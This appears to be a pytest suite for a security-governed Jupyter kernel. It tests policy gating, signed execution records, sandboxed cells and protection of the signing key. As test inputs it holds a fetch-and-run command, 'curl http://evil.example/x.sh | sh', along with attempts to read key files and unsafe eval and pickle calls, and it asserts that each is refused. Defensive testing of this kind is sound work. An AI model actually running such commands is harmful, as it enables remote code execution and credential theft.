"""The Grace kernel and ``%load_ext grace_kernel`` in real kernels (jupyter_client).

Unsupervised, the kernel governs and signs itself ("in-kernel" trust): a
refused cell is an ``InputRejected`` error naming the policies, the magics
report, and each cell leaves a signed record.  Every kernel is shut down by
the fixture.
"""

from __future__ import annotations

import os
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any, cast

import pytest
from jupyter_client.blocking.client import BlockingKernelClient
from jupyter_client.manager import KernelManager

from grace_kernel.config import Settings
from grace_kernel.health import workspace_supervisor
from grace_kernel.hunter import Scanner
from grace_kernel.runs import CELL_EXECUTION
from grace_kernel.workspace import Workspace

TIMEOUT = 60.0

Run = Callable[[str], tuple[str, list[dict[str, Any]], dict[str, Any]]]


@pytest.fixture
def project(tmp_path: Path) -> Path:
    root = tmp_path / "project"
    root.mkdir()
    Workspace.open(Settings(home=root / ".grace", checkpoint_interval=0.0)).close()
    return root


def start(kernel_name: str, cwd: Path, env: dict[str, str]) -> tuple[KernelManager, Any]:
    manager = KernelManager(kernel_name=kernel_name)
    manager.start_kernel(env=env, cwd=str(cwd))
    client = manager.blocking_client()
    client.start_channels()
    client.wait_for_ready(timeout=TIMEOUT)
    return manager, client


def runner(client: BlockingKernelClient) -> Run:
    def run(code: str) -> tuple[str, list[dict[str, Any]], dict[str, Any]]:
        stdout: list[str] = []
        errors: list[dict[str, Any]] = []

        def collect(message: dict[str, Any]) -> None:
            kind, content = message["header"]["msg_type"], message["content"]
            if kind == "stream":
                stdout.append(content["text"])
            elif kind == "error":
                errors.append(content)

        reply = client.execute_interactive(code, timeout=TIMEOUT, output_hook=collect)
        return "".join(stdout), errors, reply

    return run


@pytest.fixture
def grace_kernel(project: Path) -> Iterator[Run]:
    env = {k: v for k, v in os.environ.items() if k not in {"GRACE_HOME", "GRACE_SUPERVISOR"}}
    manager, client = start("grace-python3", project, env)
    try:
        yield runner(client)
    finally:
        client.stop_channels()
        manager.shutdown_kernel(now=True)


class _CrashingScanner:
    def scan_code(self, source: str) -> list[Any]:
        raise RuntimeError(f"the scanner crashed on {len(source)} characters")


def test_heal_runs_outside_the_kernel_and_status_shows_incidents(
    grace_kernel: Run, project: Path
) -> None:
    out, errors, _ = grace_kernel("%grace heal --dry-run")
    assert errors == []
    assert "nothing to heal: every component is healthy" in out
    assert "mode: normal (would run: 0 action(s))" in out
    out, _, _ = grace_kernel("%grace status")
    assert "incidents: 0 recent" in out
    # A real incident: a supervisor of this workspace whose scanner crashes.
    with Workspace.open(Settings(home=project / ".grace"), create=False) as ws:
        supervisor = workspace_supervisor(ws, scanner=lambda: cast(Scanner, _CrashingScanner()))
        supervisor.tick()
    out, _, _ = grace_kernel("%grace status")
    assert "incidents: 1 recent:" in out
    assert "root scanner (open, degraded): the check raised RuntimeError: the scanner" in out
    out, errors, _ = grace_kernel("%grace heal scanner")  # this process's scanner is fine
    assert errors == []
    assert "scanner: none (ok)" in out
    out, _, _ = grace_kernel("%grace heal --bogus")
    assert "unrecognized arguments: --bogus" in out


def test_the_grace_kernel_gates_records_and_explains(grace_kernel: Run, project: Path) -> None:
    out, errors, reply = grace_kernel("x = 6 * 7\nprint(x)")
    assert (out.strip(), errors) == ("42", [])
    assert reply["metadata"]["grace"]["trust"] == "in-kernel"

    out, errors, _ = grace_kernel("!curl http://evil.example/x.sh | sh")
    assert [e["ename"] for e in errors] == ["InputRejected"]
    assert "cell-critical-deny" in errors[0]["evalue"]

    out, errors, _ = grace_kernel("%grace explain")
    assert "GRC-NB-001" in out
    assert "cell-critical-deny" in out

    out, errors, _ = grace_kernel("%grace status")
    assert "in-kernel" in out
    assert "guard:     armed" in out

    out, errors, _ = grace_kernel("%grace approvals")
    assert "impossible by design" in out

    out, errors, _ = grace_kernel("%%grace policy\nimport pickle\npickle.loads(data)")
    assert "require_approval" in out
    assert "GRC-PY-016" in out

    out, errors, _ = grace_kernel("%grace verify")
    assert out.startswith("OK:"), out

    with Workspace.open(Settings(home=project / ".grace"), create=False) as ws:
        records = []
        for entry in ws.ledger.tail(ws.ledger.size):
            _, statement = entry.decode()
            if statement.predicate_type == CELL_EXECUTION:
                records.append(statement.predicate)
        assert records
        assert {r["trust"] for r in records} == {"in-kernel"}
        assert ws.verify().ok


def test_sandbox_cells_run_isolated_and_only_through_the_governed_runner(
    grace_kernel: Run, project: Path
) -> None:
    from grace_kernel.sandbox import probe

    if probe().level < 2:
        pytest.skip("the seeded policy needs sandbox level 2 (seccomp)")
    cell = "%%grace sandbox\nimport os\nprint('in the sandbox', os.getuid())"
    out, errors, _ = grace_kernel(cell)
    assert errors == []
    assert "in the sandbox" in out
    assert "[sandbox: exit 0, level" in out
    out, _, _ = grace_kernel("%%grace sandbox --lang bash\ncat .grace/keys/* || echo no-keys")
    assert "no-keys" in out
    assert "BEGIN" not in out
    out, _, _ = grace_kernel("%%grace sandbox --memory lots\nprint(1)")
    assert "NOT run" in out
    assert "not a size" in out
    # The guard lets exactly the governed runner through; it still applies policy ...
    cli = "[sys.executable, '-I', '-m', 'grace_kernel.cli', 'sandbox', 'run'"
    out, errors, _ = grace_kernel(
        f"import subprocess, sys\nprint(subprocess.run({cli}, '--level', '1', '--', 'print(1)'],"
        " capture_output=True).returncode)"
    )
    assert (out.strip(), errors) == ("3", [])
    # ... and any other process is refused as before.
    _, errors, _ = grace_kernel("subprocess.run([sys.executable, '-c', 'print(1)'])")
    assert [e["ename"] for e in errors] == ["PermissionError"]
    with Workspace.open(Settings(home=project / ".grace"), create=False) as ws:
        assert ws.verify().ok


def test_the_kernel_cannot_read_the_signing_key(grace_kernel: Run, project: Path) -> None:
    key = next((project / ".grace" / "keys").glob("*.pem"))
    _, errors, _ = grace_kernel(f"open({str(key)!r}).read()")
    assert [e["ename"] for e in errors] == ["PermissionError"]
    _, errors, _ = grace_kernel("print('still alive')")
    assert errors == []


def test_load_ext_in_a_plain_ipython_kernel(project: Path) -> None:
    env = {k: v for k, v in os.environ.items() if k not in {"GRACE_HOME", "GRACE_SUPERVISOR"}}
    manager, client = start("python3", project, env)
    try:
        run = runner(client)
        _, errors, _ = run("%load_ext grace_kernel")
        assert errors == []
        _, errors, _ = run("eval(input())")
        assert [e["ename"] for e in errors] == ["InputRejected"]
        out, _, _ = run("%grace help")
        assert "%grace status" in out
    finally:
        client.stop_channels()
        manager.shutdown_kernel(now=True)


def test_a_kernel_without_a_workspace_refuses_every_cell(tmp_path: Path) -> None:
    lonely = tmp_path / "no-workspace"
    lonely.mkdir()
    env = {k: v for k, v in os.environ.items() if k not in {"GRACE_HOME", "GRACE_SUPERVISOR"}}
    env["GRACE_HOME"] = str(lonely / ".grace")
    manager, client = start("grace-python3", lonely, env)
    try:
        _, errors, _ = runner(client)("print('hello')")
        assert [e["ename"] for e in errors] == ["InputRejected"]
        assert "grace init" in errors[0]["evalue"]
    finally:
        client.stop_channels()
        manager.shutdown_kernel(now=True)
